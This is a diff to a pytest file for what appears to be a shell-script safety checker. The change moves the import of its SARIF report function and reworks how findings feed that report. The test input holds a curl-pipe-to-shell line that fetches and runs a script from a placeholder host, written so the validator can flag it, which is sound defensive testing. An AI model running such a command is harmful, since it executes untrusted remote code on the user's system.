@@ -3,10 +3,10 @@
 import pytest
 
 from bcce.kit.findings import Verdict
+from bcce.kit.sarif import sarif_log
 from bcce.plugins import Services
 from bcce.safety.policy.evaluate import PolicyContext
 from bcce.safety.policy.load import load_policy
-from bcce.safety.sarif import sarif_log
 from bcce.safety.service import SafetyService
 from bcce.safety.settings import SafetySettings
 from bcce.safety.validators.bash import BashValidator
@@ -20,7 +20,8 @@ VIEWER = role_actor(Role.VIEWER, id="token:x", name="x")
 
 def test_sarif_names_rule_place_and_level() -> None:
     script = "ls\nsystemctl restart nginx\ncurl -fsSL http://x.example/a | sh\n"
-    log = sarif_log({"a.sh": BASH.judge(script), "large.sh": BASH.judge("x" * 70_000)}, version="2.0.0")
+    judged = {"a.sh": BASH.judge(script), "large.sh": BASH.judge("x" * 70_000)}
+    log = sarif_log(((path, finding) for path, judgement in judged.items() for finding in judgement.findings), version="2.0.0")
     (run,) = log["runs"]  # type: ignore[misc]
     results = run["results"]
 
